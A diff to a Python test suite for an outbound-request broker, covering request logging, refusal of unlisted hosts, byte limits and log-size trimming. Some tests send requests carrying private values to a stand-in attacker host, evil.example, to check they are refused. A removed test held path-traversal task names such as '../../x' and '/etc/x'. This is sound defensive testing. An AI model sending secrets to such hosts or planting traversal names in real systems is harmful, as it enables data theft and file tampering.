@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Mapping, Sequence
+from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
@@ -17,9 +17,9 @@ from tests.canary import Canary, answer, canary
 SECRET = "tokn-1f0e9d8c"
 
 
-def broker_of(site: Canary, *entries: str, folder: Path | None = None) -> Broker:
+def broker_of(site: Canary, *entries: str, path: Path | None = None) -> Broker:
     """Return a broker for whom the site is listed, or what a test lists."""
-    return Broker(hosts=lambda: entries or (site.host,), folder=folder)
+    return Broker(hosts=lambda: entries or (site.host,), path=path)
 
 
 async def get(
@@ -30,10 +30,9 @@ async def get(
     return await broker.send(request, task=task)
 
 
-def names_in(folder: Path) -> set[str]:
-    """Return the names of all files there, and fail where one is not in the broker's own directory."""
-    assert {path.parent.name for path in folder.rglob("*.jsonl")} == {"egress"}
-    return {path.name for path in folder.rglob("*.jsonl")}
+def size_of(folder: Path) -> int:
+    """Return how much is in a directory."""
+    return sum(path.stat().st_size for path in folder.iterdir())
 
 
 async def refused(broker: Broker, url: str, headers: Mapping[str, str] | None = None) -> Code:
@@ -155,13 +154,13 @@ async def test_a_request_with_a_credential_of_its_own_is_refused(
 async def test_every_request_leaves_one_line_without_query_headers_or_bytes(tmp_path: Path) -> None:
     """SE-01: one can read where a task went; nothing secret is in it, and nobody else may read it."""
     async with canary() as site:
-        broker = broker_of(site, folder=tmp_path / "egress")
+        broker = broker_of(site, path=tmp_path / "egress")
         await get(broker, f"{site.url}/a?private=1", headers={"X-Note": "private"})
         await refused(broker, "https://evil.example/b?private=2")
         await refused(broker, "https://user:private@evil.example/")
 
     told = lines(tmp_path / "egress", "tsk_1")
-    (file,) = (tmp_path / "egress").iterdir()
+    file = tmp_path / "egress"
     assert [(one["host"], one["path"], one["ended"].split()[0]) for one in told] == [
         (site.host, "/a", "200"),
         ("evil.example:443", "/b", "address_refused"),
@@ -178,7 +177,7 @@ async def test_a_task_that_says_too_much_is_stopped_and_stays_stopped(
     """NE-10: requests and their bytes count, also after a restart; another task is not touched."""
     monkeypatch.setattr(limits, "EGRESS_TASK_OUT_BYTES_MAX", 20_000)
     async with canary() as site:
-        broker = broker_of(site, folder=tmp_path / "egress")
+        broker = broker_of(site, path=tmp_path / "egress")
         request = EgressRequest(method="POST", url=site.url, body=b"x" * size)
         codes: list[Code] = []
         while not codes:
@@ -187,7 +186,7 @@ async def test_a_task_that_says_too_much_is_stopped_and_stays_stopped(
             except DeskhandError as error:
                 codes.append(error.code)
         asked = len(site.heads)
-        restarted = broker_of(site, folder=tmp_path / "egress")
+        restarted = broker_of(site, path=tmp_path / "egress")
         codes.append(await refused(restarted, site.url))
         other = await get(restarted, site.url, task="tsk_2")
 
@@ -209,17 +208,20 @@ async def test_a_task_that_hears_too_much_is_stopped(monkeypatch: pytest.MonkeyP
     assert broker.over("tsk_1")
 
 
-async def test_the_lines_of_old_tasks_make_room(
+async def test_the_lines_have_an_end_and_a_cut_one_hides_no_other(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """The directory has an end, and a hub cannot name a task so that a file lies elsewhere (FS-01)."""
-    monkeypatch.setattr(limits, "EGRESS_LOGS_KEPT", 3)
-    names: Sequence[str] = [*(f"tsk_{number}" for number in range(9)), "../../x", "/etc/x"]
+    """A full file makes room, the newest lines stay, and what a power cut left of one is no line."""
+    monkeypatch.setattr(limits, "EGRESS_LOG_BYTES_MAX", 2_000)
     async with canary() as site:
-        broker = broker_of(site, folder=tmp_path / "a" / "egress")
-        for name in names:
-            await get(broker, site.url, task=name)
+        broker = broker_of(site, path=tmp_path / "egress.jsonl")
+        for number in range(40):
+            await get(broker, f"{site.url}/{number}")
+        with (tmp_path / "egress.jsonl").open("a") as file:
+            file.write('\n{"at": "2026-11-23T00:00:00", "task"')
+        await get(broker, f"{site.url}/last")
 
-    kept = names_in(tmp_path)
-    assert len(kept) == 4
-    assert {"______x.jsonl", "_etc_x.jsonl"} <= kept
+    told = [one["path"] for one in lines(tmp_path / "egress.jsonl", "tsk_1")]
+    assert told[-3:] == ["/38", "/39", "/last"]
+    assert len(told) > 5
+    assert size_of(tmp_path) < 2 * 2_500
